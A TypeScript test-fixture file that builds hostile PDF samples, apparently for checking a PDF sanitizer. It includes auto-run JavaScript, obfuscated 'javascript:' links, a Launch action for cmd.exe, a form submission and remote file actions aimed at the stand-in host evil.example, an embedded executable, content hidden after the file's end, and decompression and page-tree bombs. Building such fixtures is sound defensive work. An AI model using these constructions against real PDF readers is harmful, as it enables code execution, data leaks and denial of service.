import { deflateSync } from 'node:zlib'
import { payload } from './hostile-files.ts'
import { foldings, onePage, pageObject, pdfOf, pdfWithObjectStream, streamObject } from './pdf-file.ts'

const opening = { ...onePage, 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>' }
const opens = (action: string) => ({ ...opening, 4: action })
const catalogWith = (entries: string, more: Record<number, string> = {}) =>
  pdfOf({ ...onePage, 1: `<< /Type /Catalog /Pages 2 0 R ${entries} >>`, ...more })
const script = `<< /S /JavaScript /JS (app.alert\\("${payload.replaceAll(/[()]/g, '')}"\\)) >>`
const pageWith = (entries: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${entries} >>`
const withLink = (action: string) =>
  pdfOf({ ...onePage, 3: pageWith(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`) })

const withContent = (content: Buffer, filter: string) =>
  pdfOf({ ...onePage, 3: pageWith('/Contents 4 0 R'), 4: streamObject(content, `/Filter ${filter}`) })

const hidden = Object.entries(foldings).map(
  ([name, folding]) =>
    [`a script in an object stream, ${name}`, pdfWithObjectStream(opening, script, folding)] as const,
)

type Written = { kids: string; more?: Record<number, string> }

/** Ten levels of ten, each of which names the next ten times. */
function pagesWithoutEnd(write: (kids: string, number: number) => Written): Buffer {
  const levels = Array.from({ length: 10 }, (_, index) => {
    const number = index + 2
    const { kids, more } = write(`${index === 9 ? 20 : number + 1} 0 R `.repeat(10), number)
    return { [number]: `<< /Type /Pages /Count 1 /Kids ${kids} >>`, ...more }
  })
  return pdfOf(Object.assign({ 1: onePage[1], 20: pageObject }, ...levels))
}

/** Objects for readers that look for them in all bytes of a file. */
const hiddenDocument = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>\nendobj\n`

/** What a paper must not carry. A reader would run, open or send something, or could not be looked into. */
export const hostilePdfs: Record<string, Buffer> = {
  ...Object.fromEntries(hidden),
  'a script when it opens': pdfOf(opens(script)),
  'a script whose name is disguised': pdfOf(opens('<< /S /J#61vaScript /#4AS (app.alert) >>')),
  'a script for every page': pdfOf({ ...onePage, 3: pageWith(`/AA << /O ${script} >>`) }),
  'a script in the tree of names': catalogWith(`/Names << /JavaScript << /Names [(x) ${script}] >> >>`),
  'a script that is a stream': pdfOf({
    ...opens('<< /S /JavaScript /JS 5 0 R >>'),
    5: streamObject(deflateSync(payload), '/Filter /FlateDecode'),
  }),
  'a script that nothing names': pdfOf({ ...onePage, 4: script }),
  'a link that runs a script': withLink('<< /S /URI /URI (java\\012script:app.alert) >>'),
  'a link in hexadecimal that runs a script': withLink(
    `<< /S /URI /URI <${Buffer.from('JavaScript:alert').toString('hex')}> >>`,
  ),
  'a link behind blanks that runs a script': withLink(`<< /S /URI /URI (${' '.repeat(1_500)}javascript:app.alert) >>`),
  'a link with a line end that runs a script': withLink('<< /S /URI /URI (java\\nscript:app.alert) >>'),
  'an article of another file': pdfOf(opens('<< /S /Thread /F (//evil.example/x.pdf) /D 0 >>')),
  'a root that is not there, and another in a stream': pdfOf(
    { ...onePage, 7: '<< /Title 8 0 R >>', 8: streamObject(hiddenDocument) },
    { trailer: '/Root 99 0 R /Info 7 0 R' },
  ),
  'a root of another generation, and another in a stream': pdfOf(
    { ...onePage, 7: '<< /Title 8 0 R >>', 8: streamObject(hiddenDocument) },
    { trailer: '/Root 1 5 R /Info 7 0 R' },
  ),
  'a program to start': pdfOf(opens('<< /S /Launch /F (cmd.exe) >>')),
  'another file to go to': withLink('<< /S /GoToR /F (//evil.example/x.pdf) /D [0 /Fit] >>'),
  'a form to send': withLink('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>'),
  'data to import': withLink('<< /S /ImportData /F (x.fdf) >>'),
  'a file inside': catalogWith('/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>', {
    4: '<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>',
    5: streamObject(payload),
  }),
  'a file pinned to a page': pdfOf({
    ...onePage,
    3: pageWith('/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]'),
  }),
  'a form of its own language': catalogWith('/AcroForm << /XFA 4 0 R >>', {
    4: streamObject(`<xdp>${payload}</xdp>`),
  }),
  'a film': pdfOf({ ...onePage, 3: pageWith('/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]') }),
  'a password': pdfOf(
    { ...onePage, 4: '<< /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>' },
    { trailer: '/Encrypt 4 0 R' },
  ),
  'a thousand pages': pdfOf({
    1: onePage[1] ?? '',
    2: `<< /Type /Pages /Count 1000 /Kids [${Array.from({ length: 1_000 }, (_, index) => `${index + 10} 0 R`).join(' ')}] >>`,
    ...Object.fromEntries(Array.from({ length: 1_000 }, (_, index) => [index + 10, pageObject])),
  }),
  'pages without end': pagesWithoutEnd((kids) => ({ kids: `[${kids}]` })),
  'pages without end, in lists of their own': pagesWithoutEnd((kids, number) => ({
    kids: `${number + 20} 0 R`,
    more: { [number + 20]: `[${kids}]` },
  })),
  'one page a thousand times, in a list of its own': pdfOf({
    ...onePage,
    2: '<< /Type /Pages /Count 1000 /Kids 4 0 R >>',
    4: `[${'3 0 R '.repeat(1_000)}]`,
  }),
  'one page a thousand times, behind a bracket': pdfOf({
    ...onePage,
    2: `<< /Type /Pages /Count 1000 /Kids [3 0 R (]) ${'3 0 R '.repeat(1_000)}] >>`,
  }),
  'brackets without end': catalogWith(`/X ${'['.repeat(100_000)}${']'.repeat(100_000)}`),
}

/** Documents that are pages and something else besides, in places where a reader of documents does not look. */
export const pdfsWithExtras: Record<string, Buffer> = {
  'a page behind its end': pdfOf(onePage, { after: `<!-- ${payload} -->\n%%EOF\n` }),
  'an archive behind its end': pdfOf(onePage, { after: `PK\x03\x04${payload}\n%%EOF\n` }),
  'a remark between its objects': pdfOf({ ...onePage, 2: `${onePage[2]}\nendobj\n% ${payload}\n9 0 obj\nnull` }),
  'an object that nothing names': pdfOf({ ...onePage, 4: `(${payload.replaceAll(/[()]/g, '')})` }),
  'an object that its table leaves out': pdfOf(onePage, { after: `4 0 obj\n${script}\nendobj\n%%EOF\n` }),
  'words behind the end of a stream': withContent(
    Buffer.concat([deflateSync('0 0 m'), Buffer.from(payload)]),
    '/FlateDecode',
  ),
}

/** What a few kilobytes unfold into; made when asked for, because it takes a moment. */
export const pdfBombs: Record<string, () => Buffer> = {
  'a page that unfolds into gigabytes': () => withContent(deflateSync(Buffer.alloc(300 * 2 ** 20)), '/FlateDecode'),
  'a page that unfolds twice': () =>
    withContent(deflateSync(deflateSync(Buffer.alloc(300 * 2 ** 20))), '[/FlateDecode /FlateDecode]'),
  'two million empty lists': () => catalogWith(`/X [${'[] '.repeat(2_000_000)}]`),
}
